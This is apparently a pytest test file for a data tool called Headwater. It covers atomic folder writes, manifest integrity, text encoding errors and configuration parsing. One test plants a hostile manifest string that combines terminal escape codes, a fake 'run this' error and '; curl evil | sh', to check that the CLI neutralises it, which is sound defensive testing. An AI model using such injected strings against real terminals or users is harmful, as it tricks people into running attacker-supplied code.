"""Folders appear complete or not at all, record what they are, and are checked for changes when they are read."""

from __future__ import annotations

import contextlib
import errno
import http.client
import io
import json
import os
import random
import re
import signal
import stat
import subprocess
import sys
import tomllib
import unicodedata
from pathlib import Path
from typing import Literal

import numpy as np
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pydantic import ConfigDict

from headwater.cli.main import main
from headwater.config import Config, merge, parse_settings
from headwater.errors import DataError, FolderError, ResourceError, StorageError, UsageError, require_extra
from headwater.reading import intact_json_lines, parse_json, read_json, read_text, text_blocks
from headwater.storage import (
    Stage,
    atomic_write,
    cache_folder,
    find_resource,
    folder_lock,
    lineage,
    open_folder,
    read_manifest,
    save_array,
    storage_errors,
    user_files,
    write_json,
    write_json_lines,
    write_text,
)
from headwater.storage.files import new_temporary


def write(out: Path, content: bytes = b"hello", **config: object) -> Path:
    stage = Stage(out, kind="corpus", config=config, inputs={})
    with stage.write() as work:
        (work / "a.txt").write_bytes(content)
    return out


def test_identity_is_of_the_content(tmp_path: Path) -> None:
    one, same, other = write(tmp_path / "a", x=1), write(tmp_path / "b", x=2), write(tmp_path / "c", b"x")
    renamed = tmp_path / "d"
    with Stage(renamed, kind="corpus", config={}, inputs={}).write() as work:
        (work / "b.txt").write_bytes(b"hello")
    identities = [read_manifest(folder).identity for folder in (one, same, other, renamed)]
    assert identities[0] == identities[1]
    assert len(set(identities)) == 3


def test_a_folder_that_holds_something_else_is_refused(tmp_path: Path) -> None:
    out = write(tmp_path / "a", rate=1)
    assert Stage(out, kind="corpus", config={"rate": 1}, inputs={}).is_complete()
    for kind, config, named in (
        ("corpus", {"rate": 2, "size": 3}, "rate 1 → 2, size none → 3"),
        ("tokens", {"rate": 1}, "a corpus"),
    ):
        with pytest.raises(FolderError, match=named):
            Stage(out, kind=kind, config=config, inputs={}).find()
    with pytest.raises(FolderError, match="seed none → 2"):
        Stage(out, kind="corpus", config={"rate": 1, "seed": 2}, inputs={}).find()
    (tmp_path / "mine").mkdir()
    (tmp_path / "mine" / "thesis.txt").write_text("years of work")
    with (
        pytest.raises(FolderError, match="not Headwater's"),
        Stage(tmp_path / "mine", kind="corpus", config={}, inputs={}).write(),
    ):
        pass
    assert (tmp_path / "mine" / "thesis.txt").read_text() == "years of work"


@pytest.mark.parametrize(
    ("program", "recorded"),
    [
        ("/opt/bin/headwater", "headwater pack 'my texts'"),
        ("/opt/lib/headwater/__main__.py", "headwater pack 'my texts'"),
        ("/home/me/main.py", "headwater (called from Python)"),
        ("/opt/lib/pytest/__main__.py", "headwater (called from Python)"),
    ],
)
def test_a_manifest_names_a_command_that_was_one(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, program: str, recorded: str
) -> None:
    monkeypatch.setattr(sys, "argv", [program, "pack", "my texts"])
    with Stage(tmp_path / "out", kind="corpus", config={}, inputs={}).write():
        pass
    assert read_manifest(tmp_path / "out").command == recorded


@pytest.mark.skipif(sys.platform != "linux", reason="elsewhere every name is UTF-8")
def test_an_input_that_no_manifest_can_name_is_refused(tmp_path: Path) -> None:
    unnamed = tmp_path / os.fsdecode(b"caf\xe9")
    unnamed.mkdir()
    with pytest.raises(FolderError, match=r"caf\\udce9' is not UTF-8\. Give it another name"):
        Stage(tmp_path / "out", kind="corpus", config={}, inputs={"source": unnamed})


def test_a_changed_input_is_refused_and_shown_in_the_lineage(tmp_path: Path) -> None:
    source = write(tmp_path / "source")
    stage = Stage(tmp_path / "out", kind="tokens", config={}, inputs={"corpus": source})
    with stage.write() as work:
        (work / "t").write_text("t")
    assert lineage(tmp_path / "out")["inputs"][0]["state"] == "complete"
    (source / "a.txt").unlink()
    (source / "headwater.json").unlink()
    source.rmdir()
    write(source, b"other")
    with pytest.raises(FolderError, match=r"another input \(corpus\)"):
        Stage(tmp_path / "out", kind="tokens", config={}, inputs={"corpus": source}).find()
    assert lineage(tmp_path / "out")["inputs"][0]["state"] == "changed"


def test_a_folder_of_another_format_version_is_refused(tmp_path: Path) -> None:
    manifest = read_manifest(write(tmp_path / "a"))
    later = manifest.model_copy(update={"format_version": 2}).sealed().to_dict() | {"unknown": "a later key"}
    write_json(tmp_path / "a" / "headwater.json", later)
    with pytest.raises(FolderError, match=r"headwater\.json has format version 2; expected 1"):
        open_folder(tmp_path / "a")


def test_an_altered_file_of_a_folder_is_not_an_input(tmp_path: Path) -> None:
    (write(tmp_path / "corpus") / "a.txt").write_bytes(b"other")
    with pytest.raises(FolderError, match=r"a\.txt was altered after it was written"):
        Stage(tmp_path / "out", kind="tokens", config={}, inputs={"text": tmp_path / "corpus" / "a.txt"})


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=60, deadline=None)
@given(place=st.floats(0, 1, exclude_max=True), bit=st.integers(0, 7), cut=st.booleans())
def test_any_altered_or_cut_file_is_noticed(
    tmp_path_factory: pytest.TempPathFactory, place: float, bit: int, cut: bool
) -> None:
    for name in ("a.txt", "headwater.json"):
        folder = write(tmp_path_factory.mktemp("f") / "corpus", b"some bytes of text")
        path = folder / name
        content = bytearray(path.read_bytes())
        index = int(place * len(content))
        if cut:
            content = content[:index]
        else:
            content[index] ^= 1 << bit
        if name == "headwater.json" and _same_json(path, bytes(content)):
            continue
        path.write_bytes(bytes(content))
        with pytest.raises((FolderError, DataError)) as caught:
            open_folder(folder)
        assert name in str(caught.value)


def test_damage_anywhere_in_a_large_folder_is_detected(tmp_path: Path) -> None:
    generator = random.Random(1)
    stage = Stage(tmp_path / "corpus", kind="corpus", config={}, inputs={})
    with stage.write() as work:
        for number in range(40):
            (work / f"part-{number % 4}").mkdir(exist_ok=True)
            (work / f"part-{number % 4}" / f"{number}.bin").write_bytes(generator.randbytes(1 + 997 * number))
        (work / "large.bin").write_bytes(generator.randbytes((4 << 20) + 1))
    folder = tmp_path / "corpus"
    open_folder(folder)
    borders = [border + step for border in range(0, (4 << 20) + 1, 1 << 20) for step in (-1, 0, 1)]
    places = {folder / "large.bin": [place for place in borders if 0 <= place <= 4 << 20]}
    places |= {path: [0, path.stat().st_size - 1] for path in folder.glob("part-*/*.bin")}
    for path, wanted in places.items():
        for place in wanted:
            with path.open("r+b") as handle:
                handle.seek(place)
                old = handle.read(1)
                handle.seek(place)
                handle.write(bytes([old[0] ^ 1]))
            with pytest.raises(FolderError, match=f"{path.name} was altered"):
                open_folder(folder)
            with path.open("r+b") as handle:
                handle.seek(place)
                handle.write(old)
    os.truncate(folder / "large.bin", 4 << 20)
    with pytest.raises(FolderError, match=r"large\.bin has 4,194,304 bytes"):
        open_folder(folder)


def _same_json(path: Path, content: bytes) -> bool:
    """White space may differ."""
    try:
        return bool(json.loads(content) == json.loads(path.read_bytes()))
    except ValueError:
        return False


def test_an_irreplaceable_path_is_refused_and_a_link_followed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    place, link = tmp_path / "place", tmp_path / "link"
    place.mkdir()
    link.symlink_to(place, target_is_directory=True)
    with monkeypatch.context() as inside:
        inside.chdir(place)
        with pytest.raises(FolderError, match=r"the current folder.*--out corpus"):
            write(Path())
        with pytest.raises(FolderError, match="the current folder"):  # before anything is computed
            Stage(Path(), kind="corpus", config={}, inputs={}).is_complete()
        assert not Stage(Path(), kind="pages", config={}, inputs={}, grows=True).is_complete()
    with monkeypatch.context() as mounted:
        mounted.setattr(os.path, "ismount", lambda path: path == place)
        with pytest.raises(FolderError, match="is a mount"):
            write(place)
    write(link)
    assert link.is_symlink()
    assert open_folder(place, "corpus").complete
    assert sorted(path.name for path in tmp_path.iterdir()) == ["link", "place"]


def test_killed_while_writing_leaves_nothing_in_the_way(tmp_path: Path) -> None:
    code = (
        "import os, signal; from pathlib import Path; from headwater.storage.stage import Stage\n"
        f"with Stage(Path({str(tmp_path / 'out')!r}), kind='corpus', config={{}}, inputs={{}}).write() as work:\n"
        "    (work / 'half').write_text('half'); os.kill(os.getpid(), signal.SIGKILL)"
    )
    assert subprocess.run([sys.executable, "-c", code]).returncode == -signal.SIGKILL
    assert not (tmp_path / "out").exists()
    write(tmp_path / "out")
    assert [path.name for path in tmp_path.iterdir()] == ["out"]


def test_a_failed_write_keeps_what_was_there(tmp_path: Path) -> None:
    path = tmp_path / "precious"
    path.write_text("old")
    with pytest.raises(RuntimeError), atomic_write(path) as handle:
        handle.write(b"new and half")
        raise RuntimeError
    assert path.read_text() == "old"
    assert len(list(tmp_path.iterdir())) == 1


@pytest.mark.parametrize("grows", [False, True])
def test_unrenamable_folders_are_refused_before_work(
    grows: bool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Such as on a mount of an object store: the work was done, and lost at its end."""
    rename = Path.rename

    def refuse(path: Path, target: Path) -> Path:
        if path.is_dir() and any(path.iterdir()):
            raise OSError(errno.EMFILE, os.strerror(errno.EMFILE))
        return rename(path, target)

    monkeypatch.setattr(Path, "rename", refuse)
    stage = Stage(tmp_path / "new" / "run", kind="run", config={}, inputs={}, grows=grows)
    with pytest.raises(StorageError, match=re.escape(f"folders cannot be renamed in {tmp_path}: Too many open")):
        stage.is_complete()
    assert list(tmp_path.iterdir()) == []


@pytest.mark.skipif(os.name != "posix", reason="folders are flushed on POSIX only")
@pytest.mark.parametrize("number", [errno.EBADF, errno.EINVAL, errno.EACCES])
def test_a_folder_that_cannot_be_flushed_is_written(
    number: int, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    fsync = os.fsync

    def refuse(descriptor: int) -> None:
        if stat.S_ISDIR(os.fstat(descriptor).st_mode):
            raise OSError(number, os.strerror(number))
        fsync(descriptor)

    monkeypatch.setattr(os, "fsync", refuse)
    assert open_folder(write(tmp_path / "out"), "corpus").complete


def test_a_write_keeps_a_link_and_refuses_a_pipe(tmp_path: Path) -> None:
    file, link = tmp_path / "folder" / "page.html", tmp_path / "link.html"
    file.parent.mkdir()
    link.symlink_to(file)
    for text in ("first", "second"):  # the link leads nowhere, then to a file
        write_text(link, text)
        assert (link.is_symlink(), file.read_text()) == (True, text)
    if hasattr(os, "mkfifo"):
        os.mkfifo(tmp_path / "pipe")
        with pytest.raises(StorageError, match="pipe is a device or a pipe; expected a file"):
            write_text(tmp_path / "pipe", "page")
        assert (tmp_path / "pipe").is_fifo()


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full")
def test_a_full_disk_is_a_storage_error() -> None:
    with pytest.raises(StorageError, match="no space is left"), storage_errors(Path("x")):
        descriptor = os.open("/dev/full", os.O_WRONLY)
        try:
            os.write(descriptor, b"x")
        finally:
            os.close(descriptor)


def test_a_full_disk_error_names_the_users_folder(tmp_path: Path) -> None:
    out = tmp_path / "model"
    message = f"no space is left to write {re.escape(str(out))}\\."
    with (
        new_temporary(out) as part,
        pytest.raises(StorageError, match=message),
        storage_errors(part / "weights" / "a.bin"),
    ):
        raise OSError(errno.ENOSPC, "No space left on device")


def test_a_folder_that_creates_no_files_ends_the_attempt(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    tried: list[Path] = []

    def refuse(path: Path, **given: object) -> None:  # as /proc does
        assert not tried, "tried again"
        tried.append(path)
        raise FileNotFoundError(errno.ENOENT, os.strerror(errno.ENOENT), str(path))

    monkeypatch.setattr(Path, "mkdir", refuse)
    with (
        pytest.raises(StorageError, match=f"{re.escape(str(tmp_path / 'model'))} cannot be written"),
        storage_errors(tmp_path / "model"),
        new_temporary(tmp_path / "model"),
    ):
        pass


def test_a_locked_parts_folder_is_named_by_its_final_folder(tmp_path: Path) -> None:
    parts = tmp_path / ".corpus.0123456789ab.parts"
    parts.mkdir()
    with folder_lock(parts), pytest.raises(FolderError) as caught, folder_lock(parts):
        pass
    assert str(caught.value).startswith(f"{tmp_path / 'corpus'} is in use by a running process. ")


@pytest.mark.parametrize(
    "error",
    [
        RuntimeError("I/O error: No space left on device (os error 28)"),
        RuntimeError('IoError(Os { code: 28, kind: StorageFull, message: "" })'),
    ],
)
def test_a_full_disk_is_recognised_in_a_librarys_error(error: Exception) -> None:
    with pytest.raises(StorageError, match="no space is left"), storage_errors(Path("x")):
        raise error


def test_text_that_is_not_utf8_is_named_with_its_line(tmp_path: Path) -> None:
    path = tmp_path / "text.txt"
    path.write_bytes("first\nsecond\nna\xefve".encode("latin1"))
    with pytest.raises(DataError, match=r"0xef in line 3.*iconv -f cp1252"):
        read_text(path)
    path.write_bytes("first\n강물은 바다로 흐른다.\n".encode("cp949"))
    for read in (read_text, lambda path: list(text_blocks(path))):
        with pytest.raises(DataError, match=r"0xb0 in line 2.*iconv -f cp949"):
            read(path)
    for read in (read_text, lambda path: list(text_blocks(path, 8))):
        path.write_bytes(b"\x7fELF\x00\x00")
        with pytest.raises(DataError, match="binary"):
            read(path)
        path.write_bytes("from Windows".encode("utf-16"))
        with pytest.raises(DataError, match=r"is UTF-16;.*iconv -f utf-16"):
            read(path)


def test_a_text_that_ends_inside_a_character_is_truncated(tmp_path: Path) -> None:
    path = tmp_path / "text.txt"
    for read in (read_text, lambda path: list(text_blocks(path, 8))):
        for cut in (1, 2):  # of the three bytes of a syllable
            path.write_bytes("강물은\n바다로 흐른".encode()[:-cut])
            with pytest.raises(
                DataError, match=r"text\.txt is cut off in its last character, in line 2;"
            ) as caught:
                read(path)
            assert "iconv" not in str(caught.value)
        path.write_bytes("one letter beyond ASCII, in latin1: caf\xe9".encode("latin1"))
        with pytest.raises(DataError, match="iconv -f cp1252"):
            read(path)


def test_json_stores_any_text_and_only_a_line_feed_ends_a_line(tmp_path: Path) -> None:
    path = tmp_path / "rows.jsonl"
    rows = [{"text": "one\u2028two\x85three\x1c"}, {"text": "half \ud83d, \ud83d\ude00"}]
    write_json_lines(path, rows)
    assert [json.loads(line) for line in path.read_text("utf-8").split("\n") if line] == [
        rows[0],
        {"text": "half \ud83d, 😀"},
    ]
    assert list(intact_json_lines(path)) == [rows[0], {"text": "half \ufffd, 😀"}]
    write_json(path, {"name": os.fsdecode(b"caf\xe9")})
    assert read_json(path) == {"name": "caf\ufffd"}


@pytest.mark.parametrize(
    "text", ['["\\ud800x"]', '["\\uDBFFx"]', b'["\\udc00x"]', b'["\xed\xa0\x80x"]', b'["\xed\xbf\xbfx"]']
)
def test_a_lone_surrogate_in_json_is_replaced(text: str | bytes) -> None:
    assert parse_json(text) == ["\ufffdx"]


def test_a_byte_order_mark_that_spans_blocks_is_dropped(tmp_path: Path) -> None:
    path = tmp_path / "text.txt"
    path.write_bytes("\ufeff강물\ufeff\n".encode())
    assert "".join(text_blocks(path, 1)) == read_text(path) == "강물\ufeff\n"


class Inner(Config):
    depth: int = 1


class Finite(Config):
    model_config = ConfigDict(allow_inf_nan=False)
    share: float = 0.1


class Outer(Config):
    rate: float = 0.1
    pieces: Literal["auto"] | tuple[Literal["one", "two"], ...] = "auto"
    inner: Inner = Inner()


def test_configuration_merges_and_names_what_is_wrong(tmp_path: Path) -> None:
    path = tmp_path / "recipe.toml"
    path.write_text("rate = 0.5\n[inner]\ndepth = 3\n")
    config = Outer.load(path, parse_settings(["rate=0.25"]))
    assert (config.rate, config.inner.depth) == (0.25, 3)
    config.save(tmp_path / "saved.toml")
    assert Outer.load(tmp_path / "saved.toml") == config
    with pytest.raises(UsageError, match=r"inner\.dept.*Did you mean 'inner\.depth'"):
        Outer.load(path, parse_settings(["inner.dept=4"]))
    with pytest.raises(
        UsageError, match=r"has pieces = \['six'\]: .*'auto', or: .*'one' or 'two'\. Correct pieces\."
    ):
        Outer.load(path, parse_settings(["pieces=['six']"]))
    with pytest.raises(UsageError, match="rate = 'fast'"):
        Outer.load(path, parse_settings(["rate=fast"]))
    for wrong in ("rate = = 1", f"rate = {'1' * 5_000}", f"rate = {'[' * 5_000}"):
        path.write_text(wrong)
        with pytest.raises(UsageError, match="not valid TOML"):
            Outer.load(path)
        with pytest.raises(UsageError, match=r"depth = '.{1,199}…?:"):
            Outer.build(parse_settings([wrong.replace("rate = ", "inner.depth=")]))
    for endless in ("inf", "nan", "1e999", "Infinity", "-Infinity", "NaN", "1" * 5_000):
        with pytest.raises(UsageError, match=r"share = .*finite number"):
            Finite.build(parse_settings([f"share={endless}"]))


@given(
    st.dictionaries(st.sampled_from("abc"), st.integers()), st.dictionaries(st.sampled_from("abc"), st.integers())
)
def test_the_later_layer_wins(base: dict[str, int], over: dict[str, int]) -> None:
    assert merge({"t": base}, {"t": over}) == {"t": base | over}


@pytest.mark.parametrize(
    "error", [ConnectionResetError("reset by peer"), http.client.IncompleteRead(b"half"), TimeoutError("slow")]
)
def test_a_broken_connection_is_an_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, error: Exception
) -> None:
    class Broken(io.BytesIO):
        def read(self, size: int | None = -1) -> bytes:
            raise error

    monkeypatch.setenv("HEADWATER_DATA", str(tmp_path))
    monkeypatch.setenv("HEADWATER_CACHE", str(tmp_path / "cache"))
    monkeypatch.setattr("urllib.request.urlopen", lambda url, timeout: Broken())
    with pytest.raises(ResourceError, match=r"vocab_40000.bpe could not be fetched: .*or put the file at"):
        find_resource("gpt1/vocab_40000.bpe", allow_network=True)
    assert not (tmp_path / "cache").exists()


@pytest.mark.skipif(os.name != "posix" or sys.platform == "darwin", reason="XDG_CACHE_HOME counts on Linux only")
@pytest.mark.parametrize("named", ["", "cache", "./cache"])
def test_a_relative_cache_folder_is_ignored(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, named: str) -> None:
    monkeypatch.delenv("HEADWATER_CACHE", raising=False)
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setenv("XDG_CACHE_HOME", named)
    assert cache_folder() == tmp_path / ".cache" / "headwater"
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "named"))
    assert cache_folder() == tmp_path / "named" / "headwater"


def test_a_foreign_manifest_cannot_control_the_terminal(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    write(tmp_path / "a")
    manifest = read_manifest(tmp_path / "a")
    evil = "headwater pack\x1b[2K\rError: run this\n; curl evil | sh \x9b2J \u202egnp"
    changed = manifest.model_copy(update={"command": evil, "complete": False}).sealed()
    (tmp_path / "a" / "headwater.json").write_text(changed.model_dump_json())
    for arguments in (["lineage", "a"], ["lineage", "a", "--json"], ["corpus", "stats", "a"]):
        with contextlib.chdir(tmp_path):
            main(arguments)
        found = capsys.readouterr()
        shown = found.out + found.err
        assert "evil" in shown
        assert not [c for c in shown if unicodedata.category(c) in {"Cc", "Cf", "Zl", "Zp"} and c not in "\n\t"]
        if arguments[0] == "corpus":
            assert "; curl" not in shown  # what a shell would run is quoted
            assert "';' curl evil '|' sh" in shown
            assert len(found.err.strip().splitlines()) == 1
        if "--json" in arguments:
            assert json.loads(found.out)["command"] == evil


def test_resources_are_located_by_hash_and_not_fetched(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HEADWATER_DATA", str(tmp_path))
    monkeypatch.setenv("HEADWATER_CACHE", str(tmp_path / "cache"))
    with pytest.raises(ResourceError, match=r"gpt1/vocab_40000.bpe was not found"):
        find_resource("gpt1/vocab_40000.bpe")
    wrong = tmp_path / "tokenizers" / "gpt1" / "vocab_40000.bpe"
    wrong.parent.mkdir(parents=True)
    wrong.write_text("#version: 0.2\na b\n")
    with pytest.raises(ResourceError, match="its hash differs"):
        find_resource("gpt1/vocab_40000.bpe")


def test_a_missing_package_is_named_with_an_extra_that_exists() -> None:
    with (
        pytest.raises(ResourceError, match=r"needs the package fastwarc\. pip install 'headwater\[corpus\]'"),
        require_extra("corpus", "reading WARC"),
    ):
        raise ModuleNotFoundError(name="fastwarc.warc")
    root = Path(__file__).parents[2]
    extras = tomllib.loads((root / "pyproject.toml").read_text())["project"]["optional-dependencies"]
    sources = "".join(path.read_text() for path in (root / "src").rglob("*.py"))
    used = set(re.findall(r'with require_extra\("(\w+)"', sources))
    assert "corpus" in used
    assert used <= set(extras)


@pytest.mark.skipif(os.name != "posix", reason="has no umask")
def test_all_files_of_a_folder_have_the_mode_of_the_umask(tmp_path: Path) -> None:
    """safetensors creates files that only their owner can read."""
    for mask, mode in ((0o022, 0o644), (0o077, 0o600)):
        before = os.umask(mask)
        try:
            out = tmp_path / f"{mask:o}"
            stage = Stage(out, kind="model", config={}, inputs={})
            with stage.write() as work:
                (work / "head.safetensors").touch(mode=0o600)
                write_json(work / "a.json", {})
            grown = Stage(tmp_path / f"run-{mask:o}", kind="run", config={}, inputs={}, grows=True)
            grown.begin()
            (grown.out / "head.safetensors").touch(mode=0o600)
            grown.finish()
        finally:
            os.umask(before)
        files = [path for folder in (out, grown.out) for path in folder.iterdir()]
        assert {path.name: path.stat().st_mode & 0o777 for path in files} == dict.fromkeys(
            [path.name for path in files], mode
        )


def test_an_array_without_dimensions_is_written(tmp_path: Path) -> None:
    for array in (np.array(3), np.asfortranarray(np.arange(6).reshape(2, 3))):
        save_array(tmp_path / "a.npy", array)
        np.testing.assert_array_equal(np.load(tmp_path / "a.npy"), array)


@pytest.mark.parametrize("grows", [False, True])
def test_a_folder_that_a_file_manager_opened_is_empty(tmp_path: Path, grows: bool) -> None:
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / ".DS_Store").write_bytes(b"x")
    if grows:
        assert Stage(tmp_path / "out", kind="run", config={}, inputs={}, grows=True).begin().kind == "run"
    else:
        assert open_folder(write(tmp_path / "out"), "corpus").complete


def test_caches_of_a_saved_data_set_are_no_texts(tmp_path: Path) -> None:
    for name in ("data-00000-of-00001.arrow", "cache-0f1e.arrow", "state.json", "cache-notes.txt"):
        (tmp_path / name).write_bytes(b"x")
    files, left_out = user_files(tmp_path)
    assert [path.name for path in files] == ["cache-notes.txt", "data-00000-of-00001.arrow"]
    assert [path.name for path in left_out] == ["cache-0f1e.arrow", "state.json"]
